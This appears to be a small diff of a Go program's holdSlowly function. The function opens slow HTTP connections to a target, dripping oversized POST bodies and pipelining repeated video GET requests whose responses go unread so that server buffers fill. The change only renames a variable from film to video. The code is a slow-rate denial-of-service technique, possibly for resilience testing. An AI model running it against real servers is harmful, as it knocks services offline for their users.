@@ -30,8 +30,8 @@ func (t *target) holdSlowly(ctx context.Context) *slowly {
 		path := []string{"/graphql", "/nl/contact/", "/captcha", "/nl/nergens/"}[i%4]
 		body := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{", path)
 		go s.bodies.hold(ctx, t.addr, body, drip)
-		film := fmt.Sprintf("GET %s HTTP/1.1\r\nHost: a\r\n\r\n", t.known.film)
-		go s.readers.hold(ctx, t.addr, strings.Repeat(film, 20), unread) // more than the system's own buffers take
+		video := fmt.Sprintf("GET %s HTTP/1.1\r\nHost: a\r\n\r\n", t.known.video)
+		go s.readers.hold(ctx, t.addr, strings.Repeat(video, 20), unread) // more than the system's own buffers take
 	}
 	return s
 }
